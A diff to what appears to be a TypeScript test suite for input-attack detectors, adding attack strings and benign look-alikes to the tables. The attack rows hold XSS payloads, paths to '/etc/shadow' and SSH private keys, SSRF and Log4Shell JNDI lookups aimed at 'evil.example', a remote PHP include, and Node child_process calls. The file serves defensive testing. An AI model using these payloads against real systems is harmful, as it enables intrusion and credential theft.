@@ -10,6 +10,8 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
   SqlInjection: [['a condition that always holds', "a' or 8=8--"]],
   CrossSiteScripting: [
     ['a script', '<script>ping()</script>'],
+    ['a function under another name', 'a=alert,a(9)'],
+    ['a text that is run', "Function('ping()')()"],
     ['a function that a method calls', '[9].find(alert)'],
   ],
   ShellCommand: [
@@ -51,6 +53,8 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['parameters that Tomcat drops', '/..;/..;/..;/manager'],
     ['an absolute path', '/etc/shadow'],
     ['a process', '/proc/self/environ'],
+    ['keys of a person', '~/.ssh/id_rsa'],
+    ['a text within its address', 'data:text/plain,x'],
     ['a drive', 'c:/windows/system32/drivers/etc/hosts'],
     ['a stream of PHP', 'php://filter/convert.base64-encode/resource=index'],
     ['a file URL', 'file:///srv/secret'],
@@ -85,6 +89,7 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['a store behind the server', 'http://cache:6379/'],
     ['with the name of its argument', 'url=http://10.1.2.3/'],
     ['credentials that look like the host', 'http://shop.example@evil.example/'],
+    ['a share of Windows', '\\\\evil.example\\a'],
     ['another protocol', 'gopher://shop.example:6379/_x'],
   ],
   Template: [
@@ -143,6 +148,9 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['a superglobal', "$_GET['c']"],
     ['a call that tells', 'phpinfo()'],
     ['a call by a quoted name', "'system'('id')"],
+    ['a variable of its own overwritten', 'GLOBALS[a]', 'name'],
+    ['a digest shown', 'print(md5(9));'],
+    ['code from elsewhere', "include 'http://evil.example/x'"],
     ['a call that runs', "exec('id')"],
     ['a call through a variable', '$f(1)'],
     ['a serialized object', 'O:3:"Foo":1:{s:1:"a";i:1;}'],
@@ -158,6 +166,7 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
   Node: [
     ['the prototype as a member', '__proto__', 'name'],
     ['the prototype in an argument', '__proto__[admin]', 'name'],
+    ['a module that reads files', "x(require('fs').readdirSync('.'))"],
     ['through the constructor', 'constructor.prototype.admin', 'name'],
     ['the main module', "process.mainModule.require('fs')"],
     ['a module that runs commands', "require('child_process').exec('id')"],
@@ -166,6 +175,7 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
   ],
   LogLookup: [
     ['a lookup that fetches', '${jndi:ldap://evil.example/a}'],
+    ['a lookup of the machine', '${sys:user.name}'],
     ['its name in lower-case lookups', '${${lower:J}ndi:ldap://evil.example/a}'],
     ['its letters as defaults', '${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}'],
     ['cut off', '${jndi:rmi://evil.example'],
@@ -182,6 +192,19 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
 }
 
 const benign: readonly Row[] = [
+  [
+    'a command with pipes quoted in prose',
+    'To find them, run `ls -la /srv/log | grep error | tail -n 9` there',
+  ],
+  ['an exception in a log', '09:00 ERROR [main] - java.lang.IllegalStateException: closed'],
+  ['a frame of a trace', 'x\n at java.util.List.of(List.java:9)'],
+  ['a document of a person', 'C:\\Users\\Anna\\Documents\\report.docx'],
+  ['what browsers send of an upload', 'C:\\fakepath\\photo.jpg'],
+  ['a message quoted', 'Subject: a meeting\nFrom: jo@example.org\nTo: al@example.org'],
+  ['words with numbers after semicolons', 'sort by date; find the best; top 10'],
+  ['a picture in an address', 'data:image/png;base64,iVBORw0KGgo='],
+  ['a statement that is a sentence', 'delete from your memory'],
+  ['a page that begins with a word of SQL', 'catalogue/light/select-9'],
   ['prose after a semicolon', 'We met; find us at the station; time is short'],
   ['names and an ampersand', 'Simon & Cat Head of Sales'],
   ['commands that are words', 'cat food, curl up, echo chamber, sort of'],
@@ -263,5 +286,5 @@ test('base64 hides nothing, whether in a value or in the last segment of a path'
 test('every detector has rows, and every row ran', () => {
   assert.deepEqual(Object.keys(attacks).sort(), detectors.map(({ name }) => name).sort())
   const rows = Object.values(attacks).flat().length
-  assert.deepEqual([rows, benign.length], [140, 55])
+  assert.deepEqual([rows, benign.length], [150, 65])
 })
